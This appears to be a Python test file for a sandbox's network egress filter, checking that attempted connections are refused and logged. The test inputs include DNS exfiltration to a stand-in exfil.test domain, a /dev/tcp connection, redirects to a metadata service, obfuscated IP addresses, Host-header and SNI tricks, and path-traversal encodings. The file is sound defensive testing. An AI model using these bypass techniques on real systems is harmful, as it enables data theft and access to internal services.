"""What a box does not reach, however it asks."""
import json
import os
import pathlib

from egress_support import case, policy, raw
from egress_world import A, A6, HOST, INTERNAL, METADATA
from run_harness import USER_ID
from worker_harness import Plane, Worker, fresh_folder, wait_for


@case("F55 F02")
def no_rule_no_network(given):
    box = given.box(policy(rules=""))
    box.shell("getent hosts a.test; exec 3<>/dev/tcp/93.184.216.34/443").expect(None, err="unreachable")
    given.nothing_left()


@case("F55 F02")
def what_a_session_without_a_rule_tries_is_on_record(given):
    plane, folder, worker = Plane("--ttl", "20"), fresh_folder(), None
    try:
        for background in ("keep", "kill"):
            box = given.box(policy(rules="", background=background))
            place = pathlib.Path(folder) / background
            place.mkdir()
            box.state = place / "state"
            if given.user == "user":
                os.chown(folder, USER_ID, USER_ID)
                os.chown(place, USER_ID, USER_ID)
            worker = Worker(plane, state=str(place), policy=str(box.policy), program=box.program)
            wait_for("the start", lambda: "serving" in worker.log())
            session = plane.session()
            box.err = ""
            text, _ = plane.result(session, plane.bash(
                session, f"curl -sS -m 9 https://a.test/; curl -sS -m 9 http://{A}/"), 60)
            assert "(6) Could not resolve host" in text and ("(56)" in text or "(7)" in text), text
            for wanted in (dict(host="a.test", l7="dns"), dict(host=A, port=80, l7="tcp")):
                record = box.denied(**wanted, dec="deny", why="the profile has no egress rule")
                if background == "kill":
                    assert record["tu"] == box.records("tool.intent")[0]["tu"], record
                assert record["sid"] == session, record
            worker.end()
            worker = None
        given.nothing_left()
        assert not given.world.names.asked
    finally:
        if worker:
            worker.end()
        plane.end()


@case("F10")
def another_name_does_not_exist(given):
    box = given.box().shell("curl -sS -m 9 https://b.test/ https://evil.a.test.b.test/").expect(6)
    box.denied(host="b.test", l7="dns", dec="deny", why="no egress rule names this host and port")
    assert box.denied(host="b.test")["tu"] == box.records("tool.intent")[0]["tu"]
    given.nothing_left()
    assert not given.world.names.asked


@case("F07 F08")
def data_in_a_name_stays_here(given):
    box = given.box().shell("for i in $(seq 50); do getent hosts $(head -c 20 /dev/urandom | od -An -tx1 | "
                            "tr -d ' \\n').exfil.test; done; dig +tries=1 +time=2 TXT x.exfil.test @8.8.8.8; "
                            "dig +tcp +tries=1 +time=2 y.exfil.test @1.1.1.1; "
                            "dig +tries=1 +time=2 TXT $(hostname).a.test")
    box.expect(out="status: NXDOMAIN").expect(out="status: REFUSED")
    given.nothing_left()
    assert not given.world.names.asked


@case("F01 F04 F13 F17")
def an_address_without_a_rule_is_reset(given):
    box = given.box().shell(f"for to in {A}:80 {A}:443 [{A6}]:443 1572395042:80 0135.0270.0330.042:443; do "
                            "curl -sS -m 9 http://$to/open/x; done; true")
    box.denied(host=A, port=443, l7="tcp", why="no egress rule names this host and port")
    box.denied(host=A6, port=443)
    box.denied(host=A, port=80)
    assert {record["host"] for record in box.records("net.deny")} == {A, A6}
    given.nothing_left()


@case("F23")
def a_port_without_a_rule_is_refused(given):
    box = given.box().shell("curl -sS -m 9 telnet://a.test:22 < /dev/null; curl -sS -m 9 http://a.test:8080/").expect(
        7, err="Couldn't connect")
    box.denied(host="a.test", port=22)
    given.nothing_left()


@case("F02 F05 D05")
def nothing_but_tcp_and_dns(given):
    script = """
import socket
def tried(what, act):
    try:
        act()
        print("through", what)
    except OSError as error:
        print("refused", what, error.errno)
for port in (443, 123, 4433):
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.connect(("93.184.216.34", port))
        s.send(b"x")
        s.recv(9)
    tried(f"udp {port}", udp)
for name, family, kind, protocol in (("raw", 2, 3, 255), ("icmp", 2, 3, 1), ("ping", 2, 2, 1), ("sctp", 2, 1, 132),
                                     ("mptcp", 2, 1, 262), ("udplite", 2, 2, 136), ("packet", 17, 3, 3),
                                     ("vsock", 40, 1, 0), ("dccp", 2, 6, 33), ("gre", 2, 3, 47)):
    tried(name, lambda: socket.socket(family, kind, protocol).sendto(b"x" * 16, ("93.184.216.34", 443)))
s = socket.socket()
tried("bindtodevice", lambda: (s.setsockopt(1, 25, b"h0\\0"), s.connect(("93.184.216.34", 443)), s.send(b"x"), s.recv(1)))
"""
    box = given.box()
    (box.work / "try.py").write_text(script)
    box.run("/usr/bin/python3", "/workspace/try.py").expect()
    assert "through" not in box.out, box.out
    assert box.out.count("refused") == 14, box.out
    box.shell("ip route del local default dev lo table local; ip route add default via 127.0.0.1; "
              "ip link add v0 type dummy; ip addr add 10.0.0.9/8 dev lo; ip link set lo down; true")
    assert box.err.count("not permitted") == 5, box.err
    given.nothing_left()


@case("F25 F26")
def another_name_in_tls_is_refused(given):
    box = given.box().shell(
        "for name in '-servername b.test' '-servername www.a.test' -noservername '-servername 93.184.216.34'; do "
        "openssl s_client -connect a.test:443 $name -brief < /dev/null; done; "
        "echo plain | timeout 5 openssl s_client -connect a.test:443 -servername a.test -CAfile /workspace/ca.pem "
        "-verify_return_error -brief").expect(None, err="CONNECTION ESTABLISHED")
    assert box.err.count("ESTABLISHED") == 1, box.err
    for name in ("b.test", "www.a.test"):
        box.denied(host="a.test", l7="sni", rule="net.toml:11", why=f"TLS asks for {name}, which is not the name")
    box.denied(host="a.test", l7="sni", why="TLS asks for no name")
    assert given.world.came() == [(A, 443)]


@case("F29")
def what_is_no_tls_is_not_carried(given):
    box = given.box().shell("printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n' | nc -w 5 a.test 443; "
                            "printf 'SSH-2.0-x\\r\\n' | nc -w 5 a.test 443; true")
    box.denied(host="a.test", l7="sni", why="mode sni: ")
    given.nothing_left()


@case("F13 F16")
def names_that_lead_inwards_are_refused(given):
    names = ("internal", "metadata", "own", "loop", "mixed", "mapped")
    box = given.box(policy("".join(raw(f"{name}.test", 80) for name in names)))
    box.shell("".join(f"curl -sS -m 9 http://{name}.test/; " for name in names)).expect(None)
    for name, address in (("internal", INTERNAL), ("metadata", METADATA), ("own", HOST), ("loop", "127.0.0.1"),
                          ("mixed", INTERNAL), ("mapped", INTERNAL)):
        assert address in box.denied(host=f"{name}.test", l7="raw")["why"]
    given.nothing_left()


@case("F13")
def private_is_given_only_where_a_rule_says_so(given):
    box = given.box(policy(raw("internal.test", 80, "private = true") + raw("metadata.test", 80, "private = true")))
    box.shell("curl -sS -m 9 http://internal.test/yes; curl -sS -m 9 http://metadata.test/").expect(None, out="/yes")
    box.denied(host="metadata.test", why="is a metadata service")
    assert given.world.came() == [(INTERNAL, 80)]


@case("F14")
def a_name_that_changes_is_judged_each_time(given):
    given.world.names.turns["a.test"] = [[A], [A], ["127.0.0.1"]]
    box = given.box(policy(raw("a.test", 80)))
    box.shell("curl -sS -m 9 http://a.test/one > /dev/null; for i in 1 2 3; do curl -sS -m 9 http://a.test/two; done; true")
    box.opened(host="a.test", addr=A)
    box.denied(host="a.test", why="127.0.0.1 is not a public address")
    del given.world.names.turns["a.test"]
    assert set(given.world.came()) == {(A, 80)}


@case("F40")
def a_redirect_is_a_new_decision(given):
    box = given.box().shell(f"curl -sS -m 9 -L http://a.test/redirect/http://{METADATA}/latest; "
                            "curl -sS -m 9 -L http://a.test/redirect/http://b.test/; true")
    box.denied(host=METADATA)
    box.denied(host="b.test")
    assert set(given.world.came()) == {(A, 80)}


@case("F22 F28 F34 F37")
def requests_are_decided_one_by_one(given):
    box = given.box().shell("""
ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
ask http://a.test/open/x; ask http://a.test/closed; ask -X DELETE http://a.test/open/x
ask -H 'Host: b.test' http://a.test/open/x; ask --path-as-is http://a.test/open/../closed
ask http://a.test/open/%2e%2e/closed; ask http://a.test/open/a%2f..%2f..%2fclosed; ask -X TRACE http://a.test/open/x
ask -d data http://a.test/open/x
curl -sS -m 9 http://a.test/closed""")
    box.expect(out="200 403 403 421 400 400 400 405 200 ").expect(out="denied by policy: ").expect(out="net.toml:")
    box.denied(host="a.test", l7="http", meth="GET", path="/closed")
    box.denied(host="a.test", l7="http", meth="DELETE", path="/open/x")
    assert box.opened(meth="POST", path="/open/x", status=200, addr=A)["up"] > 0
    asked = [json.loads(line) for line in given.world.lines("asked")]
    assert {(method, host) for method, host, _ in asked} == {("GET", "a.test"), ("POST", "a.test")}, asked
